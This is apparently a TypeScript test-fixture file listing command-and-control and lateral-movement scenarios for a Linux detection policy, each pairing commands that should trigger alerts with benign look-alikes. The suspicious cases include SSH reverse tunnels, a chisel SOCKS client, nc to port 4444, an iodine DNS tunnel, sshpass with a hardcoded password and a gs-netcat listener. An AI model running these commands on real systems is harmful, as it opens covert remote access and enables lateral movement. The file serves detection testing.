/** Lateral movement and command and control (policies/linux/command_and_control_procedures.toml). */
import { run, runArgv, runDoing, sc, type Scenario } from "../scenario.ts";

const SSH = "/usr/bin/ssh";
const SH = "/usr/bin/sh";

export const COMMAND_AND_CONTROL: Scenario[] = [
  sc(
    "ssh_key_from_temp",
    "user",
    [
      run("/usr/bin/chmod", "600", "/tmp/.k"),
      run(SSH, "-i", "/tmp/.k", "-o", "StrictHostKeyChecking=no", "root@10.0.4.12"),
    ],
    [run(SSH, "-i", "/home/alice/.ssh/deploy_ed25519", "deploy@10.0.4.12")],
  ),
  sc(
    "ssh_reverse_or_socks_tunnel",
    "user",
    [run(SSH, "-f", "-N", "-R", "2222:localhost:22", "tun@203.0.113.7")],
    [run(SSH, "-L", "5432:localhost:5432", "db.internal"), run(SSH, "-A", "bastion")],
  ),
  sc(
    "ssh_tunnel_from_service",
    "cron",
    [run(SSH, "-o", "StrictHostKeyChecking=no", "-fN", "-R", "9000:127.0.0.1:22", "u@203.0.113.7")],
    [run(SSH, "backup@10.0.4.12", "/usr/local/bin/snapshot")],
  ),
  sc(
    "tunneling_tools",
    "user",
    [runArgv("/tmp/chisel", ["./chisel", "client", "203.0.113.7:8000", "R:socks"])],
    [
      runArgv("/usr/bin/cloudflared", ["cloudflared", "tunnel", "run", "web"]),
      run("/usr/bin/gost", "-V"),
    ],
  ),
  sc(
    "socat_relay",
    "user",
    [run("/usr/bin/socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:10.0.0.5:80")],
    [
      run("/usr/bin/socat", "-", "UNIX-CONNECT:/run/app.sock"),
      run("/usr/bin/socat", "TCP-LISTEN:9000,fork", "UNIX-CONNECT:/run/docker.sock"),
    ],
  ),
  sc(
    "shell_odd_port",
    "user",
    [run("/usr/bin/nc", "203.0.113.7", "4444")],
    [run("/usr/bin/nc", "-zv", "10.0.0.5", "443"), run("/usr/bin/nc", "mail.internal", "25")],
  ),
  sc(
    "icmp_dns_tunnel",
    "root",
    [run("/usr/sbin/iodine", "-f", "-P", "s3cr3t", "t.example.net")],
    [run("/usr/bin/dig", "+short", "t.example.net"), run("/usr/bin/ping", "-c", "1", "10.0.0.1")],
  ),
  sc(
    "sshpass_login",
    "user",
    [run(
      "/usr/bin/sshpass",
      "-p",
      "Winter2026!",
      "ssh",
      "-o",
      "StrictHostKeyChecking=no",
      "admin@10.0.4.20",
    )],
    [run("/usr/bin/sshpass", "-f", "/home/alice/.config/pw", "scp", "report.pdf", "nas:/share")],
  ),
  sc(
    "ssh_from_web_server",
    "web",
    [runDoing(SH, ["sh", "-c", "ssh -o StrictHostKeyChecking=no deploy@10.0.4.12 id"], [
      run(SSH, "-o", "StrictHostKeyChecking=no", "deploy@10.0.4.12", "id"),
    ])],
    [run("/usr/sbin/sendmail", "-t", "-i")],
  ),
  sc(
    "remote_access_tool_from_temp",
    "user",
    [runArgv("/tmp/.g/gs-netcat", ["gs-netcat", "-s", "ExampleSecretXYZ", "-l", "-i"])],
    [run("/usr/bin/netcat", "-l", "8080")],
  ),
];
